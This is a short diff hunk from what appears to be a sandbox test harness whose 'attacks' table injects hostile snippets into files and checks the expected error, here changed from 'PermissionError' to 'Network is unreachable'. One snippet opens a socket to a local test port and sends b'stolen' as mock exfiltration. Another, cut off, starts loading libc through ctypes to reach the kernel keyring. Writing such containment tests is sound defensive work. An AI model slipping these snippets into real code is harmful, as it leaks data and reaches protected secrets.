@@ -196,7 +196,7 @@ def attacks(out_dir, port):
             {'utils.py': [('load_mnist_trainval',
                            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), "
                            f"timeout=3).sendall(b'stolen')")]},
-            'PermissionError'),
+            'Network is unreachable'),
         'the kernel keyring': (
             'activations.relu',
             {BASE: [('ReLU', "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
